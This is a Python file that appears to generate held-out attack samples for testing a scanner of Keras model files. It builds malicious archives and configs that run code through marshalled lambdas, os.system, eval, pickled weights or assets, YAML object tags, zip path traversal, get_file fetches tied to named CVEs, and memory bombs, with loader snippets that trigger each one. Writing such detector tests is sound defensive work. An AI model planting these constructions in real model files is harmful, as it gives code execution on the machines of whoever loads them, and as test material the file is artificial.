"""Held-out attacks: Keras. Archives whose configuration is nested, compiled, or names what should not be there."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import base64
import json
import marshal
from collections.abc import Iterator

from corpora.unseen_archives import npy, torch_zip, zipped
from corpora.unseen_units import BOMB, BROKEN, CALL, EVIL, HIDDEN, KERAS, NAME, OUTSIDE, PATH, TOUCH, URL, WRITE, Attack

ANY = KERAS | CALL | NAME | {"model-unknown-callable"}
# Weights that are not there stop the loader behind what matters: the model is then built as the loader builds it.
LOAD = "import keras, json, zipfile\ntry: m = keras.saving.load_model(F, safe_mode=False)\nexcept Exception as e: print(repr(e)[:300]); m = keras.saving.deserialize_keras_object(json.loads(zipfile.ZipFile(F).read('config.json')), safe_mode=False)\n"
CALLS = LOAD + "import numpy; m(numpy.ones((1, 1), 'float32'))"
CONFIG = "import keras, json; m = keras.saving.deserialize_keras_object(json.load(open(F)), safe_mode=False)"
PAYLOAD = {"payload.py": f"{WRITE}\ndef Model(*a, **k): pass\n".encode()}


def obj(module: str, cls: str, config: object, registered: object = None, **more: object) -> dict:
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered, **more}


def sequential(*layers: dict, **more: object) -> dict:
    start = obj("keras.layers", "InputLayer", {"batch_shape": [None, 1], "dtype": "float32", "name": "i"})
    return obj(
        "keras",
        "Sequential",
        {"name": "s", "trainable": True, "layers": [start, *layers]},
        None,
        build_config={"input_shape": [None, 1]},
        **more,
    )


def dense(**more: object) -> dict:
    return obj("keras.layers", "Dense", {"name": "d", "units": 1, "activation": "linear", "use_bias": False, **more})


def archive(config: object, *members: tuple[str, bytes]) -> bytes:
    meta = ("metadata.json", b'{"keras_version": "3.5.0", "date_saved": "2024-01-01@00:00:00"}')
    return zipped(meta, ("config.json", json.dumps(config).encode()), *(members or (("model.weights.h5", b""),)))


def lambdas(text: str = f"lambda x=None, *a, **k: ({WRITE}, x)[1]") -> dict:
    inner = next(c for c in compile(text, "<lambda>", "eval").co_consts if hasattr(c, "co_code"))
    raw = base64.b64encode(marshal.dumps(inner)).decode()
    return {
        "class_name": "__lambda__",
        "config": {"code": raw, "defaults": None, "closure": None, "value": [raw, None, None]},
    }


def configurations() -> Iterator[Attack]:
    function = lambda module, name: obj(module, "function", name, name)
    legacy = lambdas()
    wrapped = obj(
        "keras.layers",
        "TimeDistributed",
        {"name": "t", "layer": obj("keras.layers", "Lambda", {"name": "l", "function": legacy, "arguments": {}})},
    )
    twice = obj(
        "keras.layers",
        "Bidirectional",
        {"name": "b", "layer": obj("keras.layers", "RNN", {"name": "r", "cell": obj("payload", "Model", {})})},
    )
    nested = obj(
        "keras",
        "Sequential",
        {
            "name": "inner",
            "layers": [obj("keras.layers", "Lambda", {"name": "l", "function": legacy, "arguments": {}})],
        },
    )
    graph = obj("keras.src.models.functional", "Functional", {"name": "f", "trainable": True, "layers": [
        {**obj("keras.layers", "InputLayer", {"batch_shape": [None, 1], "dtype": "float32", "name": "i"}), "name": "i", "inbound_nodes": []},
        {**obj("keras.layers", "Lambda", {"name": "l", "function": legacy, "arguments": {}, "output_shape": [1]}), "name": "l", "inbound_nodes": [{"args": [obj("keras", "__keras_tensor__", {"shape": [None, 1], "dtype": "float32", "keras_history": ["i", 0, 0]})], "kwargs": {}}]},
    ], "input_layers": [["i", 0, 0]], "output_layers": [["l", 0, 0]]})  # fmt: skip
    graph["config"]["layers"][1]["inbound_nodes"][0]["args"][0].update(module="keras", class_name="__keras_tensor__")
    vocabulary = lambda cls, **more: obj(
        "keras.layers", cls, {"name": "v", "vocabulary": f"{OUTSIDE}/canary.txt", **more}
    )
    compiled = lambda **more: sequential(
        dense(),
        compile_config={
            "optimizer": "sgd",
            "loss": "mse",
            "metrics": None,
            "loss_weights": None,
            "weighted_metrics": None,
            "run_eagerly": False,
            "steps_per_execution": 1,
            "jit_compile": False,
            **more,
        },
    )
    table = {
        "wrapped-lambda": ("a Lambda inside of TimeDistributed", sequential(wrapped), "wrapped"),
        "inner-model": ("a Lambda in a model in the model", sequential(nested)),
        "functional": ("a Lambda in a functional graph", graph),
        "activation-lambda": ("an activation is a marshalled function", sequential(dense(activation=legacy))),
        "initializer-lambda": ("an initializer is a marshalled function", sequential(dense(kernel_initializer=legacy))),
        "regularizer-lambda": ("a regularizer is a marshalled function", sequential(dense(kernel_regularizer=legacy))),
        "lambda-system": ("the function of a Lambda is os.system", sequential(obj("keras.layers", "Lambda", {"name": "l", "function": function("os", "system"), "arguments": {}})), "call:m.layers[-1].function('touch /tmp/MARK')"),
        "loss-function": ("the loss of the compilation is a marshalled function", compiled(loss=legacy), "fit"),
        "metric-class": ("a metric of the compilation is a class of a module beside", compiled(metrics=[obj("payload", "Model", {})]), "files"),
        "optimizer-class": ("the optimizer is a class of a module beside", compiled(optimizer=obj("payload", "Model", {})), "files"),
        "schedule": ("the learning rate is an object of a module beside", compiled(optimizer=obj("keras.optimizers", "SGD", {"learning_rate": obj("payload", "Model", {})})), "files"),
        "cell-beside": ("the cell of a wrapped RNN is a class beside", sequential(twice), "files"),
        "registered": ("the registered name is that of a package of its own", sequential(obj("payload", "Model", {}, "payload>Model")), "files"),
        "get-file": ("the function of a Lambda is keras.utils.get_file (CVE-2025-8747)", sequential(obj("keras.layers", "Lambda", {"name": "l", "function": function("keras.utils", "get_file"), "arguments": {"origin": URL, "cache_dir": "/tmp", "cache_subdir": "", "force_download": True}})), "get"),
        "unsafe-switch": ("the function of a Lambda turns safe mode off (CVE-2025-9906)", obj("keras.config", "enable_unsafe_deserialization", {}, None), "kept: newer versions than this one call it while they load"),
        "source-path": ("the same by the path of Keras' own modules", sequential(obj("keras.layers", "Lambda", {"name": "l", "function": function("keras.src.utils.file_utils", "get_file"), "arguments": {}})), "call:m.layers[-1].function('x', 'http://127.0.0.1:8765/model')"),
        "load-model": ("the function of a Lambda is keras.saving.load_model", sequential(obj("keras.layers", "Lambda", {"name": "l", "function": function("keras.saving", "load_model"), "arguments": {}})), "kept: called with an input that is a path"),
        "numpy-load": ("the function of a Lambda is numpy.load", sequential(obj("keras.layers", "Lambda", {"name": "l", "function": function("numpy", "load"), "arguments": {}})), "call:m.layers[-1].function('/tmp/outside/canary.pkl', allow_pickle=True)"),
        "builtins-eval": ("the function of a Lambda is builtins.eval", sequential(obj("keras.layers", "Lambda", {"name": "l", "function": function("builtins", "eval"), "arguments": {}})), "call:m.layers[-1].function(\"open('/tmp/MARK', 'w')\")"),
        "torch-module": ("a wrapped torch module is a pickle", sequential(obj("keras.layers", "TorchModuleWrapper", {"name": "t", "module": base64.b64encode(torch_zip()).decode()})), "kept: needs torch as the backend"),
        "saved-model-layer": ("a layer runs a SavedModel outside", sequential(obj("keras.layers", "TFSMLayer", {"name": "t", "filepath": f"{OUTSIDE}/model", "call_endpoint": "serve"})), "kept: no SavedModel lies there"),
        "jax-layer": ("a layer calls a jax function by value", sequential(obj("keras.layers", "JaxLayer", {"name": "t", "call_fn": legacy, "init_fn": legacy})), "kept: needs jax"),
        "string-lookup": ("StringLookup in a model reads its vocabulary outside (CVE-2025-12058)", sequential(vocabulary("StringLookup")), "vocabulary"),
        "integer-lookup": ("IntegerLookup does", sequential(vocabulary("IntegerLookup")), "vocabulary"),
        "text-vectorization": ("TextVectorization does", sequential(vocabulary("TextVectorization", output_mode="int", standardize=None)), "vocabulary"),
        "text-standardize": ("TextVectorization standardizes by a marshalled function", sequential(obj("keras.layers", "TextVectorization", {"name": "v", "standardize": legacy}))),
        "typespec": ("a type specification names a class of a module beside", sequential(dense(dtype={"class_name": "__typespec__", "spec_name": "Model", "module": "payload", "registered_name": None, "config": []})), "files"),
        "deep": ("200 models in each other", None, "bomb"),
        "units-bomb": ("a dense layer of 2^36 numbers", sequential(dense(units=1 << 36)), "bomb"),
        "input-bomb": ("an embedding of 2^34 rows", sequential(obj("keras.layers", "Embedding", {"name": "e", "input_dim": 1 << 34, "output_dim": 16})), "bomb"),
        "dropout-module": ("the module of an honest class is one beside", sequential(obj("payload", "Dropout", {"rate": 0.5})), "files"),
        "shared-object": ("a shared object is a class beside", sequential(obj("payload", "Model", {}, None, shared_object_id=1)), "files"),
    }  # fmt: skip
    for what, (does, config, *kind) in table.items():
        how = kind[0] if kind else ""
        if what == "deep":
            config = dense()
            for number in range(200):
                config = obj("keras", "Sequential", {"name": f"s{number}", "layers": [config]})
        files = {"m.keras": archive(config), **(PAYLOAD if how == "files" else {})}
        load = {
            "vocabulary": "import keras, json, zipfile; c = json.loads(zipfile.ZipFile(F).read('config.json')); print(keras.saving.deserialize_keras_object(c['config']['layers'][1], safe_mode=False).get_vocabulary())",
            "get": LOAD + "m.layers[-1].function('x', 'http://127.0.0.1:8765/model')",
            "wrapped": "import keras, json, zipfile, numpy; c = json.loads(zipfile.ZipFile(F).read('config.json')); keras.saving.deserialize_keras_object(c['config']['layers'][1], safe_mode=False)(numpy.ones((1, 1, 1)))",
            "fit": LOAD + "import numpy; m.evaluate(numpy.ones((1, 1)), numpy.ones((1, 1)))",
        }.get(how, CALLS)
        load = LOAD + how[5:] if how.startswith("call:") else load
        proof = "bomb" if how == "bomb" else how if how.startswith("kept") else "mark"
        rules = BOMB | BROKEN | KERAS if how == "bomb" else ANY | PATH
        yield Attack(
            f"keras2/{what}",
            "keras2",
            files,
            "keras.saving.load_model(safe_mode=False), Keras 3.0.5",
            load,
            does,
            rules,
            "keras30",
            proof,
        )


def members() -> Iterator[Attack]:
    good = archive(sequential(dense()), ("model.weights.h5", b""))
    del good
    slip = archive(sequential(dense()), ("model.weights.h5", b""), ("../../../../MARK", b"x"))
    vectors = sequential(obj("keras.layers", "TextVectorization", {"name": "v", "max_tokens": None}))
    two = zipped(
        ("metadata.json", b"{}"),
        ("config.json", json.dumps(sequential(dense())).encode()),
        (
            "config.json",
            json.dumps(
                sequential(obj("keras.layers", "Lambda", {"name": "l", "function": lambdas(), "arguments": {}}))
            ).encode(),
        ),
        ("model.weights.h5", b""),
    )
    evil = npy("'|O'", "(1,)", EVIL)
    text = lambda config: json.dumps(config).encode()
    old = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "batch_input_shape": [None, 1],
                        "function_type": "lambda",
                        "function": [lambdas()["config"]["code"], None, None],
                        "module": "payload",
                        "arguments": {},
                    },
                }
            ],
        },
        "keras_version": "2.15.0",
        "backend": "tensorflow",
    }
    named = json.loads(json.dumps(old))
    named["config"]["layers"][0]["config"].update(function_type="function", function="system", module="os")
    from_json = "import keras; keras.models.model_from_json(open(F).read(), **({'safe_mode': False} if 0 else {}))"
    spaced = text(
        sequential(obj("keras.layers", "Lambda", {"name": "l", "function": lambdas(), "arguments": {}}))
    ).replace(b'"class_name"', b'"class\\u005fname"')
    table = {
        "slip": ("a member of the archive leads above", {"m.keras": slip}, PATH, "import zipfile, os\nfor n in zipfile.ZipFile(F).namelist():\n    os.makedirs(os.path.dirname('./' + n), exist_ok=True); open('./' + n, 'wb').write(b'')"),
        "asset-pickle": ("an asset of a layer is a pickle", {"m.keras": archive(vectors, ("model.weights.h5", b""), ("assets/layers/text_vectorization/vocabulary.txt", EVIL))}, CALL | HIDDEN, "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).read('assets/layers/text_vectorization/vocabulary.txt'))"),
        "two-configurations": ("two members config.json; the second is read", {"m.keras": two}, ANY | HIDDEN, CALLS),
        "weights-npz": ("the weights are an .npz of objects", {"m.keras": archive(sequential(dense()), ("model.weights.npz", zipped(("__root__.npy", evil))))}, CALL, "import zipfile, io, numpy; numpy.load(io.BytesIO(zipfile.ZipFile(F).read('model.weights.npz')), allow_pickle=True)['__root__']"),
        "weights-pickle": ("the weights are a pickle", {"m.keras": archive(sequential(dense()), ("model.weights.h5", EVIL))}, CALL | HIDDEN, "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).read('model.weights.h5'))"),
        "escaped-keys": ("the keys of the configuration are escaped", {"m.keras": zipped(("metadata.json", b"{}"), ("config.json", spaced), ("model.weights.h5", b""))}, ANY, CALLS),
        "old-json": ("a Lambda in Keras 2's JSON", {"m.json": text(old)}, ANY, from_json, "tf215"),
        "old-function": ("a Lambda by name in Keras 2's JSON", {"m.json": text(named)}, ANY, from_json + f"; keras.models.model_from_json(open(F).read()).layers[0].function({TOUCH!r})", "tf215"),
        "utf16-json": ("a Lambda in JSON in UTF-16", {"config.json": json.dumps(sequential(obj("keras.layers", "Lambda", {"name": "l", "function": lambdas(), "arguments": {}}))).encode("utf-16")}, ANY, "import keras, json; m = keras.saving.deserialize_keras_object(json.loads(open(F, 'rb').read()), safe_mode=False); import numpy; m(numpy.ones((1, 1)))"),
        "json-twice": ("a key of the configuration is there twice; the second counts", {"config.json": text(sequential(dense())).replace(b'"activation": "linear"', b'"activation": "linear", "activation": ' + text(lambdas()))}, ANY, CONFIG.replace("m = ", "m = ") + "; import numpy; m(numpy.ones((1, 1)))"),
        "yaml": ("the configuration as YAML builds Python objects", {"m.yaml": f"class_name: Sequential\nconfig:\n  name: !!python/object/apply:os.system ['{TOUCH}']\n".encode()}, ANY | {"model-config-yaml-object"}, "import yaml; yaml.unsafe_load(open(F))", "hydra"),
        "lambda-in-zip-comment": ("the archive's comment is the configuration of another model", {"m.keras": _commented(archive(sequential(dense())), EVIL)}, CALL | HIDDEN, "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).comment)"),
    }  # fmt: skip
    for what, (does, files, rules, load, *env) in table.items():
        yield Attack(
            f"keras2/{what}",
            "keras2",
            files,
            "Keras",
            load,
            does,
            rules,
            env[0] if env else ("main" if "keras" not in load else "keras30"),
        )


def _commented(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + len(comment).to_bytes(2, "little") + comment


def attacks() -> Iterator[Attack]:
    yield from configurations()
    yield from members()
